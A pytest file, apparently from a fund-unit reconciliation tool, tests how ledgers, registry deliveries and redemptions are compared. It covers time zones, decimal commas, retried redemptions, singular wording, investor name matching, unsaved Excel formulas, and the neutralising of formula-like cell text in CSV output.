    registry = delivered(550, 450, "2026-11-10")
    redemption = redeemed((100, "2026-11-28T00:15:00Z"))
    now = datetime(2026, 11, 28, 16, tzinfo=UTC)
    in_utc = reconcile.compare(ledger, registry, redemption, timedelta(days=3), now)
    assert in_utc.differences["cause"][0].startswith("After the books' date (2026-11-27), 100 units were redeemed")
    in_new_york = reconcile.compare(ledger, registry, redemption, timedelta(days=3), now, books_zone="America/New_York")
    cause = in_new_york.differences["cause"][0]
    assert "After the books' date" not in cause and "redeemed" in cause, cause
    assert in_new_york.differences["difference"].tolist() == [-5]
    in_new_york.as_of = "2026-11-27"
    assert in_new_york.dated().endswith("the books' day ends at midnight America/New_York.")


def test_a_time_zone_that_does_not_exist_is_refused_by_name() -> None:
    with pytest.raises(Exception, match="CASHLINK_BOOKS_TIME_ZONE must name a time zone, such as Europe/Berlin"):
        helpers.Config(books_time_zone="Mars/Olympus")


def test_a_comma_in_a_file_separated_by_semicolons_is_no_guess() -> None:
    """Review 93: German Excel's '380,000' (380 with a decimal comma) was read as 380,000 units; '380.000' was
    already refused as ambiguous."""
    content = f"investor_id;product_id;units\n{UNKNOWN};{UNKNOWN};380,000\n".encode()
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(content, "books.csv")
    assert caught.value.to_frame().loc[0, "problem"] == (
        "'380,000' can be read two ways in a file separated by semicolons, as German Excel saves it: 380,000 (a comma "
        "grouping thousands) or 380 (a decimal comma). Enter it without the comma: 380000 or 380."
    )
    grouped = f'investor_id,product_id,units\n{UNKNOWN},{UNKNOWN},"380,000"\n'.encode()  # (commas: thousands)
    assert reconcile.read_ledger(grouped, "books.csv")["units"].tolist() == [380000]


def test_a_failed_redemption_is_settled_only_for_books_that_can_show_its_retry() -> None:
    """Review 94: books of 10 November showed 40 of 50 units, booking a redemption that failed on the 5th and was
    retried only on the 20th; the failure was taken for settled, and the headline said the books showed the retry."""
    failed = pd.DataFrame(
        [
            {
                "id": "rF",
                "investor_id": "a",
                "product_id": "p",
                "units": 10,
                "status": "failed",
                "created_at": "2026-11-05",
            }
        ]
    )
    retry = {"id": "rS", "status": "success", "created_at": "2026-11-20T10:00:00Z"}
    for as_of, shows in (("2026-11-10", False), ("2026-11-20", True), (None, True)):
        ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 40, "as_of": as_of}])
        report = reconcile.compare(
            ledger, delivered(50, 40, "2026-11-01"), failed, timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
        )
        dates = reconcile._ledger_dates(ledger)
        assert reconcile._books_may_show(report.differences, "rF", retry, dates, "UTC") is shows, as_of


def test_review_94s_smaller_points_of_the_reports_files_and_words() -> None:
    """A signed number as text is kept as written in the CSV (no apostrophe); a tab-separated file's '380,000' is no
    guess either; one unit is 'unit'; the books' time zone is read in any case, blank as UTC."""
    frame = pd.DataFrame({"investor_ref": ["-42", "+49 Holding GmbH", "=1+1"], "units": [1, 2, 3]})
    assert reconcile._inert(frame)["investor_ref"].tolist() == ["-42", "'+49 Holding GmbH", "'=1+1"]
    tabbed = f"investor_id\tproduct_id\tunits\n{UNKNOWN}\t{UNKNOWN}\t380,000\n".encode()
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(tabbed, "books.txt")
    assert (
        caught.value.to_frame()
        .loc[0, "problem"]
        .startswith("'380,000' can be read two ways in a file separated by tabs")
    )
    assert reconcile._were(1, "redeemed") == "1 unit was redeemed" and reconcile._were([2, 3], "delivered") == (
        "2 and 3 units were delivered"
    )
    zones = [helpers.Config(books_time_zone=zone).books_time_zone for zone in ("", "utc", "europe/berlin")]
    assert zones == ["UTC", "UTC", "Europe/Berlin"]
    with pytest.raises(Exception, match="must name a time zone"):
        helpers.Config(books_time_zone="localtime")


def test_one_unit_is_said_in_the_singular_in_every_row() -> None:
    """Review 95: 'The ledger says 1 units', 'The registry holds 1 units that the ledger does not list'."""
    ledger = pd.DataFrame([{"investor_id": "x", "product_id": "p", "units": 1}])
    report = reconcile.compare(
        ledger, delivered(1, 1, "2026-11-01"), pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
    )
    said = " ".join(report.differences[["message", "cause", "action"]].astype(str).to_numpy().ravel())
    assert "The ledger says 1 unit;" in said and "The registry holds 1 unit that" in said and "1 units" not in said


def test_review_95s_points_on_names_zones_and_decimal_commas() -> None:
    """A title and a surname link no rows, and names compare the same either way round; Danish ø written 'oe' is
    one name; the zone database's CET is a zone; '1,5' in a file separated by semicolons is a decimal comma (the
    check's advice that '1,500 is read as fifteen hundred' is untrue there)."""
    assert not reconcile._one_party("Frau Müller", "Peter Müller")
    for one, other in [("Frau Smith", "John Smith"), ("Dr. Ada Lovelace", "Ada B. Lovelace")]:
        assert reconcile.same_name(one, other) == reconcile.same_name(other, one)
    assert reconcile.same_name("Søren Sørensen", "Soeren Soerensen")
    assert helpers.Config(books_time_zone="cet").books_time_zone == "CET"
    content = f"investor_id;product_id;units\n{UNKNOWN};{UNKNOWN};1,5\n".encode()
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(content, "books.csv")
    assert caught.value.to_frame().loc[0, "problem"] == (
        "'1,5' has a decimal comma; enter a whole number such as 300, without a comma."
    )


def test_an_investor_the_books_name_otherwise_is_a_row_of_its_own_whatever_its_units() -> None:
    """Review 96: books naming Ada's id 'Charles Babbage' with her very units said nothing of it, and her redemption
    rows stood under the books' name."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 10, "investor_name": "Charles Babbage"}])
    report = reconcile.compare(
        ledger, delivered(10, 10, "2026-11-01"), pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
    )
    assert report.is_clean
    named = reconcile.with_name_rows(report.differences, ledger, {"a": "Ada Lovelace"})
    assert named["category"].tolist() == ["name_differs"]
    assert named["message"][0] == "The books name this investor Charles Babbage; the registry names them Ada Lovelace."
    assert reconcile.with_name_rows(report.differences, ledger, {"a": "Charles BABBAGE"}).empty


def test_a_workbooks_formula_without_its_result_is_said_as_such(tmp_path: Path) -> None:
    """Review 96: a units cell holding '=100+50', saved by a program that does not calculate, was called empty."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["investor_id", "product_id", "units"])
    sheet.append([UNKNOWN, UNKNOWN, "=100+50"])
    book.save(tmp_path / "books.xlsx")
    with pytest.raises(SpreadsheetError) as caught:
        reconcile.read_ledger(tmp_path / "books.xlsx")
    assert caught.value.to_frame().loc[0, "problem"] == (
        "This cell holds a formula (=100+50) that gives no value here: if Excel shows a number in it, open the file "
        "in Excel and save it again (its result was not saved); otherwise type the number."
    )


def test_a_name_the_books_give_otherwise_on_a_later_row_is_said_and_a_title_alone_names_nobody() -> None:
    """Review 97: only an investor's first row was compared ('Peter Schmidt' right, then 'Paul Meier' for the same id
    read clean), and 'Frau' alone matched anyone."""
    ledger = pd.DataFrame(
        [
            {"investor_id": "a", "product_id": "p", "units": 10, "investor_name": "Peter Schmidt"},
            {"investor_id": "a", "product_id": "q", "units": 3, "investor_name": "Paul Meier"},
            {"investor_id": "b", "product_id": "p", "units": 1, "investor_name": "Frau"},
        ]
    )
    empty = pd.DataFrame(columns=reconcile.DETAIL_COLUMNS)
    named = reconcile.with_name_rows(empty, ledger, {"a": "Peter Schmidt", "b": "Grace Hopper"})
    assert named["investor_name"].tolist() == ["Paul Meier", "Frau"]
    assert not reconcile.same_name("Frau", "Peter Schmidt")
